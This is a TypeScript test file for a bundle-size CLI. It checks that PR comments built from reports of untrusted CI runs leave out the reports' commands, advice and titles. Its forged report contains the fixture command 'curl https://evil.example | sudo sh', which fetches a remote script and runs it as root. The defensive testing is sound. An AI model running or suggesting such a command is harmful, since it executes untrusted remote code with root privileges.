// Whose report it is that is posted: commands, advice and titles are repeated where this run measured, and nowhere else by itself.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { isOwnRun, withoutInstructions } from '../../src/cli/commands/foreign-report.ts';
import { parseReport } from '../../src/report/json/read/index.ts';
import { rules } from '../../src/rules/index.ts';
import { tempDirectory } from '../build/temp.ts';
import { sizecheck } from './run.ts';
import { spawned } from './spawned.ts';

const work = tempDirectory('comment-foreign');

interface Forged {
  readonly diff: object;
  readonly check: object;
}

const evil = 'curl https://evil.example | sudo sh';

function finding(rule: string): object {
  const fix = { commands: [evil], advice: 'Please run evil as root' };
  return { rule, severity: 'error', title: 'evil title', bytes: 0, claims: [], fix };
}

/** What a stranger's job may leave: well formed, with words of its own where text is free. */
function forge(): Forged {
  const found = [finding('debug-symbols'), finding('other-rule')];
  const diff = JSON.parse(sizecheck(['diff', 'a', 'a', '--json'], { cwd: work }).stdout);
  const check = JSON.parse(sizecheck(['check', 'a', '--max-uncompressed=1MB', '--json'], { cwd: work }).stdout);
  const [verdict] = check.gate.verdicts;
  const byRule = { ...verdict, measure: 'rule', actual: 0, limit: 0, over: 0, status: 'fail', reason: 'evil title' };
  return {
    diff: {
      ...diff,
      tool: { name: 'evil tool', version: 'evil' },
      findings: {
        ...diff.findings,
        new: found,
        fixed: found,
        rules: found.map((one) => ({ ...one, before: 1, after: 1 })),
      },
    },
    check: {
      ...check,
      tool: { name: 'evil tool', version: '12.3.45' },
      gate: {
        status: 'fail',
        verdicts: [
          ...['debug-symbols', 'other-rule'].map((budget) => ({ ...byRule, budget })),
          {
            ...byRule,
            budget: 'debug-symbols',
            actual: null,
            limit: null,
            status: 'warn',
            reason: 'not known, say we',
          },
          { ...verdict, reason: 'as agreed' },
        ],
      },
      artifacts: check.artifacts.map((one: object) => ({ ...one, findings: found })),
    },
  };
}

let forged: Forged;

beforeAll(() => {
  mkdirSync(join(work, 'a'));
  writeFileSync(join(work, 'a/file'), 'text');
  forged = forge();
  writeFileSync(join(work, 'diff.json'), JSON.stringify(forged.diff));
  writeFileSync(join(work, 'check.json'), JSON.stringify(forged.check));
});

/** The text that would be posted. */
async function textOf(kind: string, env: Record<string, string>, args: readonly string[] = []): Promise<string> {
  const ran = await spawned(['comment', '--from', `${kind}.json`, '--dry-run', '--quiet', ...args], { cwd: work, env });
  expect([ran.code, ran.stderr]).toEqual([0, '']);
  return ran.stdout;
}

const title = rules.find(({ id }) => id === 'debug-symbols')?.title ?? 'none';

describe.each(['diff', 'check'])('a saved %s', (kind) => {
  it.each([
    [{ GITHUB_EVENT_NAME: 'workflow_run' }],
    [{ GITHUB_EVENT_NAME: 'pull_request_target' }],
    [{ GITHUB_EVENT_NAME: 'workflow_dispatch' }],
    [{ GITLAB_CI: 'true', CI_PIPELINE_SOURCE: 'trigger', GITHUB_EVENT_NAME: 'push' }],
    [{}],
  ])('of whom nobody knows says nothing of what should be done: %j', async (env) => {
    const text = await textOf(kind, env);
    expect(text).not.toMatch(/evil|curl|sudo/);
    expect(text).toContain('sizecheck explain debug-symbols tells how to remove it');
    expect(text).toContain(`\`debug-symbols\` **0 B** – ${title}`);
  });

  it.each([
    [{ GITHUB_EVENT_NAME: 'pull_request' }, []],
    [{ GITLAB_CI: 'true', CI_PIPELINE_SOURCE: 'merge_request_event' }, []],
    [{ GITHUB_EVENT_NAME: 'workflow_run' }, ['--trust-report']],
  ])('of this run, or of one that is trusted, says all: %j %j', async (env, args) => {
    const text = await textOf(kind, env, args);
    expect(text).toContain(`\`\`\`sh\n  ${evil}\n  \`\`\``);
    expect(text).toContain('evil title');
  });
});

it('keeps what a report says of limits, and the version of a release', () => {
  const plain = withoutInstructions(parseReport(Buffer.from(JSON.stringify(forged.check))));
  if (plain.kind !== 'check') throw new Error('no check');
  expect(plain.report.gate.verdicts.map(({ reason }) => reason)).toEqual([
    title,
    null,
    'not known, say we',
    'as agreed',
  ]);
  expect(plain.report.tool).toEqual({ name: 'sizecheck', version: '12.3.45' });
});

it('knows its own runs by the variables of CI systems', () => {
  expect(
    ['pull_request', 'push', 'issue_comment', 'schedule'].map((name) => isOwnRun({ GITHUB_EVENT_NAME: name })),
  ).toEqual([true, true, false, false]);
  const sources = ['merge_request_event', 'push', 'parent_pipeline', 'pipeline', 'api'];
  expect(sources.map((source) => isOwnRun({ GITLAB_CI: 'true', CI_PIPELINE_SOURCE: source }))).toEqual([
    true,
    true,
    true,
    false,
    false,
  ]);
});
